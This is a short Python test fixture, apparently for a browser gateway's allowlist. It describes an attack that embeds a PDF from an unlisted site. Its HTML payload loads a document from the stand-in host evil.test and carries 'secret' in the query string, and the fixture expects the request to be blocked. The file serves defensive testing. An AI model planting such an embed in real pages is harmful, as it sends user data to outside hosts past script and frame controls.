"""A permitted page embeds a document by `<embed type=application/pdf>`.

It is loaded for a plug-in of the browser and not for the page, so rules for scripts and frames do not
meet it.

Not covered: links inside of a document, which are navigations once they are clicked.
"""

ATTACK = {
    "title": "Document of an unlisted site, embedded as PDF",
    "group": "browser",
    "layer": "gateway",
    "risk": "exfiltration",
    "references": ["CWE-829"],
    "arrives": [{"what": "request", "name": "evil.test", "path": "/document.pdf*"}],
    "stopped": [{"reason": ["not-listed"], "entry": ["transparent"], "where": {"name": "evil.test"}}],
    "page": "<h1>Contract</h1><embed type='application/pdf' width=600 height=300 "
    "src='http://evil.test/document.pdf?reader=secret'>",
}
